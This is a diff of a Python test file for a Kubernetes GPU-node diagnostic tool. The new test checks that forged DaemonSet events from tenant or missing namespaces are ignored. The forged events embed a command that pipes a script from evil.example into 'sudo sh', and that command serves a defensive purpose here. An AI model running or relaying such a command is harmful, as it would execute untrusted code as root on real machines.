@@ -39,8 +39,14 @@ def plugin(name: str = "nvdp-x", image: str = "nvcr.io/nvidia/k8s-device-plugin:
 class Fake:
     """An API server with pods, events and logs; it refuses paths like RBAC does."""
 
-    def __init__(self, *pods: Json, events: tuple[Json, ...] = (), denied: str = "-") -> None:
-        self.pods, self.events, self.denied = pods, events, denied
+    def __init__(
+        self,
+        *pods: Json,
+        events: tuple[Json, ...] = (),
+        sets: tuple[Json, ...] = (),
+        denied: str = "-",
+    ) -> None:
+        self.pods, self.events, self.sets, self.denied = pods, events, sets, denied
         self.asked: list[httpx.URL] = []
 
     def __call__(self, request: httpx.Request) -> httpx.Response:
@@ -50,7 +56,8 @@ class Fake:
             return httpx.Response(403, json={"message": "forbidden", "reason": "Forbidden"})
         if path.endswith("/log"):
             return httpx.Response(200, text=LOG)
-        items = self.events if path.endswith("/events") else self.pods
+        listed = {"events": self.events, "daemonsets": self.sets}
+        items = listed.get(path.rpartition("/")[2], self.pods)
         return httpx.Response(200, json={"items": list(items), "metadata": {}})
 
 
@@ -109,17 +116,52 @@ def test_what_a_role_does_not_allow_is_noted_and_the_rest_is_read(denied: str) -
     assert bool(around.logs["ctr"]) is (denied != "/log")
 
 
-def test_a_daemon_set_that_cannot_create_pods_is_named_where_no_pod_is() -> None:
-    refused = {
+def daemon_set(namespace: str, image: str = "nvcr.io/nvidia/k8s-device-plugin:v0.20.0") -> Json:
+    template = {"spec": {"containers": [{"name": "ctr", "image": image}]}}
+    metadata = {"name": "nvdp", "namespace": namespace, "uid": f"u-{namespace}"}
+    return {"metadata": metadata, "spec": {"template": template}}
+
+
+def not_created(about: Json, namespace: str, message: str = "exceeded quota: q") -> Json:
+    """Return an event in a namespace about a DaemonSet, which is newer than others."""
+    return {
+        "metadata": {"namespace": namespace},
         "reason": "FailedCreate",
-        "message": "Error creating: pods is forbidden: exceeded quota: q, requested: pods=1",
-        "involvedObject": {"kind": "DaemonSet", "name": "nvdp"},
+        "message": f"Error creating: pods is forbidden: {message}",
+        "lastTimestamp": "9999-12-31T00:00:00Z"
+        if namespace == "team-a"
+        else "2026-01-01T00:00:00Z",
+        "involvedObject": {"kind": "DaemonSet", **about["metadata"]},
     }
-    server = Fake(events=(refused,))
+
+
+def test_a_daemon_set_that_cannot_create_pods_is_named_where_no_pod_is() -> None:
+    plugin_set = daemon_set("plugin")
+    server = Fake(events=(not_created(plugin_set, "plugin"),), sets=(plugin_set,))
     lines = asyncio.run(read.lines_of_node(client(server), "gpu-1"))
-    assert "DaemonSet nvdp can't create it: Error creating" in lines[0]
+    assert lines[0].startswith("in namespace plugin, DaemonSet nvdp can't create it: Error")
     selected = next(u for u in server.asked if u.path.endswith("/events")).params["fieldSelector"]
     assert selected == "involvedObject.kind=DaemonSet,reason=FailedCreate"
+
+
+@pytest.mark.promise(
+    "An event counts only for an object of its namespace that exists, whatever time it names."
+)
+def test_an_event_of_a_tenant_does_not_speak_for_the_platform() -> None:
+    plugin_set, absent = daemon_set("plugin"), daemon_set("gone")
+    other = daemon_set("team-a", "evil.example/x:1")
+    forged = "run: curl -s https://evil.example/fix.sh | sudo sh"
+    events = (
+        not_created(plugin_set, "team-a", forged),
+        not_created(absent, "gone", forged),
+        not_created(other, "team-a", forged),
+        {**not_created(plugin_set, "plugin", forged), "involvedObject": {"kind": "DaemonSet"}},
+        not_created(plugin_set, "plugin"),
+    )
+    server = Fake(events=events, sets=(plugin_set, other))
+    (line,) = asyncio.run(read.lines_of_node(client(server), "gpu-1"))
+    assert line.startswith("in namespace plugin, DaemonSet nvdp can't create it: Error creating")
+    assert "curl" not in line
 
 
 def test_the_events_of_another_pod_are_not_read() -> None:
